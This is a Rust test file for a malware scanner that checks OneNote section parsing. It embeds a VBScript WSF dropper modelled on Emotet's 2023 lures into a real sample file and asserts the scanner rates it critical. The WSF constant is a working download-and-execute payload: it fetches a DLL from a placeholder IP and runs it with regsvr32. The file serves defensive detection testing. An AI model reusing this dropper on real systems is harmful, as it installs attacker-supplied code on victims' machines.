//! OneNote sections (spec §2.10). The real section `OneWithFileData.one` (Microsoft's protocol test
//! suite, MIT; see `crates/kensa-formats/testdata/onenote/README.md`) attaches `testing.docx`; the
//! lure test overwrites the attached bytes in place with a WSF dropper as Emotet's March 2023
//! sections carried, keeping every structure of the real file around it.

use std::path::Path;

use kensa_core::{Severity, Verdict};
use kensa_formats::onenote::{self, DataKind};
use kensa_scan::{ScanOptions, scan_bytes};

mod common;
use common::*;

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../kensa-formats/testdata/onenote")
            .join(name),
    )
    .expect("fixture")
}

const WSF: &str = r#"<job id="a"><script language="VBScript">
Set x = CreateObject("MSXML2.XMLHTTP") : x.Open "GET", "http://198.51.100.9/a.dll", False : x.Send
Set s = CreateObject("ADODB.Stream") : s.Open : s.Type = 1 : s.Write x.ResponseBody
s.SaveToFile "C:\Users\Public\a.dll", 2
CreateObject("WScript.Shell").Run "regsvr32 /s C:\Users\Public\a.dll", 0
</script></job>"#;

#[test]
fn real_section_with_an_attached_document_is_low() {
    let data = fixture("OneWithFileData.one");
    let r = scan_bytes("notes.one", &data, &ScanOptions::default());
    assert_eq!(r.kind, "onenote");
    let e = find(&r, "ONENOTE_EMBEDDED").expect("embedded");
    assert_eq!(e.severity, Severity::Low, "{}", e.evidence);
    assert_eq!(r.verdict, Verdict::Clean, "{:?}", symbols(&r));
}

#[test]
fn section_carrying_a_script_is_critical() {
    let mut data = fixture("OneWithFileData.one");
    let one = onenote::carve(&data, 16, 1 << 20);
    let file = one
        .files
        .iter()
        .find(|f| f.kind == DataKind::EmbeddedFile)
        .expect("attached file");
    let range = file.data.clone();
    assert!(range.len() > WSF.len());
    let mut script = WSF.as_bytes().to_vec();
    script.resize(range.len(), b' ');
    data[range].copy_from_slice(&script);
    let r = scan_bytes("Invoice.one", &data, &ScanOptions::default());
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", symbols(&r));
    let e = find(&r, "ONENOTE_EMBEDDED").expect("embedded");
    assert_eq!(e.severity, Severity::Critical, "{}", e.evidence);
    let s = find(&r, "SCRIPT").expect("script analysed");
    assert_eq!(s.severity, Severity::Critical, "{}", s.evidence);
    assert_eq!(s.location.0.len(), 2, "{}", s.location.display());
}
